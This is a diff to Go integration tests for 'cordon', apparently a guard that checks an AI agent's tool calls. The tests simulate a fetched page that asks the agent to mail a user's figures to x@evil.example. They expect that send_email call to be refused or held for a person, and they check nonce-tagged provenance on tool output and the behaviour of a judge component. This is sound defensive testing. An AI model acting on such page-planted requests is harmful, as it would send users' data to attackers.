@@ -12,29 +12,32 @@ import (
 	"path/filepath"
 	"regexp"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 )
 
-// programs builds cordon and cordon-judge beside each other.
-func programs(t *testing.T) (cordon string) {
-	t.Helper()
+// programs builds cordon and cordon-judge beside each other, once.
+// CORDON_INTEGRATION_BIN is a directory that has them already.
+var programs = sync.OnceValues(func() (cordon string, err error) {
+	if dir := os.Getenv("CORDON_INTEGRATION_BIN"); dir != "" {
+		return filepath.Join(dir, "cordon"), nil
+	}
 	dir := os.Getenv("CORDON_INTEGRATION_DIR")
 	if dir == "" {
-		cache, err := os.UserCacheDir()
-		if err != nil {
-			t.Fatal(err)
+		if dir, err = os.UserCacheDir(); err != nil {
+			return "", err
 		}
-		dir = filepath.Join(cache, "cordon", "integration")
+		dir = filepath.Join(dir, "cordon", "integration")
 	}
 	cmd := exec.Command("go", "build", "-o", dir+"/", "./cmd/cordon", "./cmd/cordon-judge")
 	cmd.Dir = filepath.Join("..", "..")
 	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
 	if out, err := cmd.CombinedOutput(); err != nil {
-		t.Fatalf("go build: %v\n%s", err, out)
+		return "", fmt.Errorf("go build: %w\n%s", err, out)
 	}
-	return filepath.Join(dir, "cordon")
-}
+	return filepath.Join(dir, "cordon"), nil
+})
 
 // mailbox is a workspace, a database and a stub server that notes what it sent.
 type mailbox struct {
@@ -44,7 +47,11 @@ type mailbox struct {
 
 func newMailbox(t *testing.T, config string) *mailbox {
 	t.Helper()
-	m := &mailbox{place: newPlace(t), cordon: programs(t)}
+	cordon, err := programs()
+	if err != nil {
+		t.Fatal(err)
+	}
+	m := &mailbox{place: newPlace(t), cordon: cordon}
 	m.sent = filepath.Join(filepath.Dir(m.db), "sent")
 	m.config = filepath.Join(filepath.Dir(m.db), "cordon.yaml")
 	if err := os.WriteFile(m.config, []byte(config), 0o600); err != nil {
@@ -93,9 +100,9 @@ func (c *client) mail(to string) (text string, refused bool) {
 	return c.result(c.call("send_email", fmt.Sprintf(`{"to":%q,"subject":"report","body":"12, 14, 19"}`, to)))
 }
 
-func (c *client) page(path string) string {
+func (c *client) page(name string) string {
 	c.t.Helper()
-	text, refused := c.result(c.call("fetch_page", fmt.Sprintf(`{"path":%q}`, path)))
+	text, refused := c.result(c.call("fetch_page", fmt.Sprintf(`{"page":%q}`, name)))
 	if refused {
 		c.t.Fatalf("the page did not come: %s", text)
 	}
@@ -137,8 +144,8 @@ func (m *mailbox) pending(t *testing.T) string {
 
 func TestOriginsAMailThatAPageAskedForWaitsForAPerson(t *testing.T) {
 	m := newMailbox(t, "")
-	c := m.open(t, `{}`, "--prompt", "Mail the figures of /report to bob@corp.example.")
-	c.page("/report")
+	c := m.open(t, `{}`, "--prompt", "Mail the figures of the report page to bob@corp.example.")
+	c.page("report")
 	if text, refused := c.mail("x@evil.example"); !refused {
 		t.Fatalf("the page's address: %s", text)
 	} else {
@@ -182,7 +189,7 @@ func TestOriginsAClientWithFormsIsAsked(t *testing.T) {
 		t.Run(row.answer, func(t *testing.T) {
 			m := newMailbox(t, "")
 			c := m.open(t, `{"elicitation":{}}`)
-			c.page("/report")
+			c.page("report")
 			c.id++
 			c.write(fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"send_email","arguments":{"to":"x@evil.example","subject":"s","body":"b"}}}`, c.id))
 			question := c.next()
@@ -223,7 +230,7 @@ func (c *client) next() (m message) {
 func TestOriginsTaggedTextCannotLeaveItsTag(t *testing.T) {
 	m := newMailbox(t, "provenance: {deliver_tagged: true}\n")
 	c := m.open(t, `{}`)
-	text := c.page("/tag")
+	text := c.page("tag")
 	tag := regexp.MustCompile(`^<provenance [^>]*type="TOOL_OUTPUT"[^>]*nonce="([^"]{16,})">\n?`).FindStringSubmatch(text)
 	if tag == nil {
 		t.Fatalf("no tag with a nonce: %s", text)
@@ -235,7 +242,7 @@ func TestOriginsTaggedTextCannotLeaveItsTag(t *testing.T) {
 		t.Fatalf("%d beginnings of a tag: %s", n, text)
 	}
 	t.Logf("the model reads: %s", text)
-	if again := m.open(t, `{}`).page("/tag"); strings.Contains(again, tag[1]) {
+	if again := m.open(t, `{}`).page("tag"); strings.Contains(again, tag[1]) {
 		t.Error("two contexts have one nonce")
 	}
 	if text, refused := c.mail("x@evil.example"); !refused {
@@ -271,8 +278,8 @@ func TestOriginsAJudgeThatFailsChangesNothingElse(t *testing.T) {
 	} {
 		t.Run(row.name, func(t *testing.T) {
 			m := newMailbox(t, row.config)
-			c := m.open(t, `{}`, "--prompt", "Mail the figures of /report to bob@corp.example.")
-			c.page("/report")
+			c := m.open(t, `{}`, "--prompt", "Mail the figures of the report page to bob@corp.example.")
+			c.page("report")
 			if text, refused := c.mail("bob@corp.example"); refused {
 				t.Errorf("a call from the user's words was refused: %s", text)
 			}
@@ -290,7 +297,7 @@ func TestOriginsAJudgeThatFailsChangesNothingElse(t *testing.T) {
 	}
 	t.Run("a judge that blocks is heard", func(t *testing.T) {
 		m := newMailbox(t, command(`code=$(sed -n 's/.*"code":"\([^"]*\)".*/\1/p'); printf '{"verdict":"block","reason":"no","code":"%s"}' "$code"`))
-		c := m.open(t, `{}`, "--prompt", "Mail the figures of /report to bob@corp.example.")
+		c := m.open(t, `{}`, "--prompt", "Mail the figures of the report page to bob@corp.example.")
 		if text, refused := c.mail("bob@corp.example"); !refused {
 			t.Errorf("passed: %s", text)
 		}
